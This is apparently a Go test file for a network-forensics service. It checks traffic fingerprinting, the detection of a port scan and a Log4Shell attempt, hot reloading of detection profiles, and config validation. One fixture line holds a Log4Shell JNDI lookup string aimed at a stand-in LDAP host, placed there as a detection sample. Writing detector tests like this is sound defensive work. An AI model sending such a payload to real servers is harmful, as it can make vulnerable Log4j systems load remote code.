package fingerprint_test

import (
	"fmt"
	"log/slog"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	cloudevents "github.com/cloudevents/sdk-go/v2/event"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/tracer-framework/tracer/pkg/bus"
	"github.com/tracer-framework/tracer/pkg/bus/embedded"
	"github.com/tracer-framework/tracer/pkg/event"
	"github.com/tracer-framework/tracer/pkg/model"
	"github.com/tracer-framework/tracer/pkg/record"
	"github.com/tracer-framework/tracer/pkg/store"
	"github.com/tracer-framework/tracer/pkg/testkit"
	"github.com/tracer-framework/tracer/services/fingerprint"
)

const evidence = "e1e1"

var start = model.TimeOf(time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC))

// intrusion is a small capture: a scan, a Log4Shell request and a TLS session.
func intrusion() *record.Batch {
	b := record.NewBatch()
	id := model.FlowID(0)
	flow := func(orig, resp string, port uint16) model.Flow {
		id++
		return model.Flow{
			FlowID: id, EvidenceID: evidence, Source: "pcap", Sensor: "file", Start: start.Add(time.Duration(id) * time.Second), End: start.Add(time.Duration(id+1) * time.Second),
			OrigIP: netip.MustParseAddr(orig), OrigPort: 40000, RespIP: netip.MustParseAddr(resp), RespPort: port, Proto: "tcp", ConnState: "SF", History: "ShADadFf",
			OrigBytes: 10, RespBytes: 10, OrigPkts: 5, RespPkts: 5,
		}
	}
	ends := func(f *model.Flow) model.Endpoints {
		return model.Endpoints{
			FlowID: f.FlowID, EvidenceID: evidence, TS: f.Start, OrigIP: f.OrigIP, OrigPort: f.OrigPort, RespIP: f.RespIP, RespPort: f.RespPort, Proto: "tcp",
		}
	}
	for i := range 30 {
		f := flow("10.0.0.1", fmt.Sprintf("10.0.1.%d", i+1), 445)
		f.ConnState, f.History, f.OrigBytes, f.RespBytes, f.RespPkts = "S0", "S", 0, 0, 0
		b.Flow.Append(&f)
	}
	web := flow("203.0.113.5", "10.0.0.9", 8080)
	b.Flow.Append(&web)
	b.HTTP.Append(&model.HTTP{Endpoints: ends(&web), Method: "GET", URI: "/", Host: "shop.example", UserAgent: "${jndi:ldap://203.0.113.66/a}"})
	tls := flow("10.0.0.1", "203.0.113.6", 443)
	b.Flow.Append(&tls)
	b.TLS.Append(&model.TLS{Endpoints: ends(&tls), Transport: "tcp", ClientHello: true, ClientVersion: 771, ClientCiphers: []uint16{0x1301}, SNI: "www.example.com"})
	b.Evidence.Append(&model.Evidence{EvidenceID: evidence, Kind: "capture", Batches: 1})
	return b
}

func run(t *testing.T, b *bus.Bus, st *store.Store) {
	t.Helper()
	s, err := fingerprint.New(fingerprint.DefaultConfig(), fingerprint.Deps{Log: slog.New(slog.DiscardHandler), Bus: b, Store: st})
	if err != nil {
		t.Fatal(err)
	}
	testkit.Run(t, s.Run)
}

// collect follows a subject from its beginning.
func collect(t *testing.T, s *embedded.Server, stream, subject string) <-chan cloudevents.Event {
	t.Helper()
	nc, err := nats.Connect("", nats.InProcessServer(s))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	cons, err := js.CreateConsumer(t.Context(), stream, jetstream.ConsumerConfig{FilterSubject: subject, AckPolicy: jetstream.AckNonePolicy})
	if err != nil {
		t.Fatal(err)
	}
	out := make(chan cloudevents.Event, 100)
	cc, err := cons.Consume(func(m jetstream.Msg) {
		ev, err := event.Decode(m.Headers(), m.Data())
		if err != nil {
			t.Errorf("decode %s: %v", subject, err)
			return
		}
		out <- ev
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cc.Stop)
	return out
}

func next(t *testing.T, ch <-chan cloudevents.Event) cloudevents.Event {
	t.Helper()
	select {
	case ev := <-ch:
		return ev
	case <-time.After(20 * time.Second):
		t.Fatal("no event within 20 s")
		return cloudevents.Event{}
	}
}

func TestService(t *testing.T) {
	server := testkit.BusServer(t, embedded.Config{})
	b := testkit.BusOn(t, server, bus.ProvisionOptions{})
	st := testkit.Store(t)
	ctx := t.Context()
	recognized := collect(t, server, "FLOW_RECOGNIZED", "tracer.v1.flow.recognized.*")
	raised := collect(t, server, "DETECTION", "tracer.v1.detection.raised")
	updated := collect(t, server, "CASE", "tracer.v1.case.updated")
	run(t, b, st)

	// A batch comes out with fingerprints, under an id made from its own, with the evidence row.
	body, err := intrusion().Encode(nil)
	if err != nil {
		t.Fatal(err)
	}
	ev, err := event.NewBulk(event.FlowObserved, model.DeriveID("obs", evidence, "3", "0"), "tracer/ingest", evidence, 3, body)
	if err != nil {
		t.Fatal(err)
	}
	if err := b.Publish(ctx, ev); err != nil {
		t.Fatal(err)
	}
	got := next(t, recognized)
	if want := "rec-" + strings.TrimPrefix(ev.ID(), "obs-"); got.ID() != want {
		t.Errorf("id %s, want %s", got.ID(), want)
	}
	batch := record.NewBatch()
	if err := batch.Decode(got.Data()); err != nil {
		t.Fatal(err)
	}
	var tls model.TLS
	batch.TLS.Row(0, &tls)
	if batch.Rows() != 35 || batch.Evidence.Rows() != 1 || tls.JA4 == "" || tls.JA3 == "" {
		t.Errorf("%d rows, tls %+v", batch.Rows(), tls)
	}
	again, err := intrusionFilled()
	if err != nil || string(again) != string(got.Data()) {
		t.Errorf("same batch, other bytes (%v)", err)
	}

	// A case is treated once everything read from its inputs is stored, not before.
	c := model.Case{CaseID: "case-1", Run: "run-1", Stage: model.StageOpened, Inputs: []model.Input{{EvidenceID: evidence, Name: "a.pcap"}}}
	opened, err := event.New(event.CaseOpened, "opened-1", "test", c.CaseID, &c)
	if err != nil {
		t.Fatal(err)
	}
	if err := b.Publish(ctx, opened); err != nil {
		t.Fatal(err)
	}
	select {
	case ev := <-updated:
		t.Fatalf("treated before its input was stored: %s", ev)
	case <-time.After(700 * time.Millisecond):
	}
	if err := st.Insert(ctx, "batch", batch); err != nil {
		t.Fatal(err)
	}
	seal := record.NewBatch()
	seal.Evidence.Append(&model.Evidence{EvidenceID: "ba01", Kind: "batch", Parent: evidence})
	if err := st.Insert(ctx, "seal", seal); err != nil {
		t.Fatal(err)
	}
	done, err := event.Data[model.Case](next(t, updated))
	if err != nil {
		t.Fatal(err)
	}
	if done.Stage != model.StageDetected || done.Detections != 2 || len(done.Profiles) != 64 || done.Run != "run-1" {
		t.Errorf("case %+v", done)
	}
	var kinds []string
	for range done.Detections {
		d, err := event.Data[model.Detection](next(t, raised))
		if err != nil {
			t.Fatal(err)
		}
		kinds = append(kinds, d.Detector+" "+d.Profile)
		if d.CaseID != c.CaseID || d.Run != c.Run || len(d.Flows) == 0 || len(d.From) == 0 || !slices.Equal(d.EvidenceIDs, []string{evidence}) {
			t.Errorf("detection %+v", d)
		}
	}
	slices.Sort(kinds)
	if !slices.Equal(kinds, []string{"horizontal_scan ", "profile log4shell-lookup"}) {
		t.Errorf("detections %q", kinds)
	}
}

func intrusionFilled() ([]byte, error) {
	b := intrusion()
	fingerprint.Fill(b)
	return b.Encode(nil)
}

// TestHotReload puts, breaks and deletes a profile on the bus while the service runs; the
// digest in the case tells what was in force.
func TestHotReload(t *testing.T) {
	server := testkit.BusServer(t, embedded.Config{})
	b := testkit.BusOn(t, server, bus.ProvisionOptions{})
	st := testkit.Store(t)
	ctx := t.Context()
	updated := collect(t, server, "CASE", "tracer.v1.case.updated")
	kv, err := b.KV(ctx, fingerprint.ProfileBucket)
	if err != nil {
		t.Fatal(err)
	}
	batch := intrusion()
	batch.Evidence.Append(&model.Evidence{EvidenceID: "ba01", Kind: "batch", Parent: evidence})
	if err := st.Insert(ctx, "all", batch); err != nil {
		t.Fatal(err)
	}
	p := parser(t)
	base, err := p.Load("")
	if err != nil {
		t.Fatal(err)
	}
	run(t, b, st)
	n := 0
	treat := func() model.Case {
		t.Helper()
		n++
		c := model.Case{CaseID: "case-1", Run: fmt.Sprint("run-", n), Stage: model.StageOpened, Inputs: []model.Input{{EvidenceID: evidence}}}
		ev, err := event.New(event.CaseOpened, fmt.Sprint("opened-", n), "test", c.CaseID, &c)
		if err != nil {
			t.Fatal(err)
		}
		if err := b.Publish(ctx, ev); err != nil {
			t.Fatal(err)
		}
		done, err := event.Data[model.Case](next(t, updated))
		if err != nil {
			t.Fatal(err)
		}
		return done
	}
	until := func(what string, ok func(model.Case) bool) {
		t.Helper()
		for range 20 {
			if ok(treat()) {
				return
			}
		}
		t.Fatalf("%s: did not happen", what)
	}
	if c := treat(); c.Detections != 2 || c.Profiles != base.Digest {
		t.Fatalf("at the start: %+v", c)
	}
	own := "id: example-site\ntitle: A site\nseverity: low\nconfidence: 50\nphase: c2\ntechnique: T1071.001\non: tls\nindicators:\n  domain: ['*.example.com']\n"
	if _, err := p.PutProfile(ctx, kv, "own.yaml", []byte(own)); err != nil {
		t.Fatal(err)
	}
	until("put", func(c model.Case) bool { return c.Detections == 3 && c.Profiles != base.Digest })
	with := treat().Profiles
	if set, err := p.WithBucket(ctx, base, kv); err != nil || set.Digest != with {
		t.Errorf("the set of the bucket has digest %s (%v), the service %s", set.Digest, err, with)
	}

	// A profile at fault is refused; the one before it stays.
	if _, err := kv.Put(ctx, "example-site", []byte("id: example-site\nnonsense: 1\n")); err != nil {
		t.Fatal(err)
	}
	if _, err := kv.Put(ctx, "other", []byte(own)); err != nil { // id is not the key
		t.Fatal(err)
	}
	if _, err := p.WithBucket(ctx, base, kv); err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("error %v does not name the line", err)
	}
	if c := treat(); c.Detections != 3 || c.Profiles != with {
		t.Errorf("after a fault: %+v", c)
	}
	off := strings.Replace(own, "example-site", "log4shell-lookup", 1) + "disabled: true\n"
	if _, err := p.PutProfile(ctx, kv, "off.yaml", []byte(off)); err != nil {
		t.Fatal(err)
	}
	until("switch off", func(c model.Case) bool { return c.Detections == 2 })
	for _, id := range []string{"log4shell-lookup", "example-site"} {
		if err := fingerprint.DeleteProfile(ctx, kv, id); err != nil {
			t.Fatal(err)
		}
	}
	until("delete", func(c model.Case) bool { return c.Detections == 2 && c.Profiles == base.Digest })
	if err := fingerprint.DeleteProfile(ctx, kv, "unknown"); err == nil {
		t.Error("deleted an unknown profile")
	}
}

func TestConfig(t *testing.T) {
	if err := fingerprint.DefaultConfig().Validate(); err != nil {
		t.Error(err)
	}
	for name, change := range map[string]func(*fingerprint.Config){
		"internal_networks":  func(c *fingerprint.Config) { c.InternalNetworks = []string{"10.0.0.0/99"} },
		"workers":            func(c *fingerprint.Config) { c.Workers = 0 },
		"scan_targets":       func(c *fingerprint.Config) { c.ScanTargets = 1 },
		"beacon_score":       func(c *fingerprint.Config) { c.BeaconScore = 1.5 },
		"beacon_connections": func(c *fingerprint.Config) { c.BeaconConnections = 3 },
		"long_connection":    func(c *fingerprint.Config) { c.LongConnection = time.Second },
		"dns_names":          func(c *fingerprint.Config) { c.DNSNames = 0 },
	} {
		c := fingerprint.DefaultConfig()
		change(&c)
		if err := c.Validate(); err == nil || !strings.Contains(err.Error(), name) {
			t.Errorf("%s: error %v", name, err)
		}
	}
}
